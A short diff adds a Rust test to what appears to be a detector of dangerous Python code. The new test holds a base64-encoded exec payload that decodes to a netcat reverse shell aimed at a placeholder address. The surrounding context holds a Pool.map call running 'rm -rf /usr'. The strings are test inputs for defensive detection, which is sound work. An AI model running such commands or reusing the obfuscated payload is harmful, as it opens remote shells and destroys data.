@@ -290,3 +290,13 @@ fn recursive_fork_bombs_and_pool_maps() {
         "import os\nfrom multiprocessing import Pool\nPool(2).map(os.system, ['id', 'rm -rf /usr'])\n",
     );
 }
+
+#[test]
+fn decoded_code_is_analysed_as_code_too() {
+    // exec of a base64 payload is decode-then-execute, and what it decodes to is read:
+    // here a reverse shell.
+    fires(
+        "CRD101",
+        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ25jIC1lIC9iaW4vc2ggMS4yLjMuNCA5Jyk='))\n",
+    );
+}
